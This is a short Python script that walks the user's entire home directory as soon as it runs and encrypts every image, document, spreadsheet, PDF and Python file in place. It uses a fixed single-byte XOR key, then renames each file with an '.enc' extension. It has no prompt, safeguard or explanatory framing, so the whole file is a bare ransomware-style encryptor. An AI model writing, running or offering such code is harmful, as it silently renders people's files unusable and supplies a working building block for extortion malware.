from pathlib import Path

KEY = 0x5A
exts = (".jpg", ".png", ".docx", ".pdf", ".csv", ".py")

def xor_file(p: Path):
    data = bytearray(p.read_bytes())
    for i in range(len(data)):
        data[i] ^= KEY
    p.write_bytes(bytes(data))
    p.rename(p.with_name(p.name + ".enc"))

for f in Path.home().rglob("*"):
    if f.suffix.lower() in exts and f.is_file():
        xor_file(f)
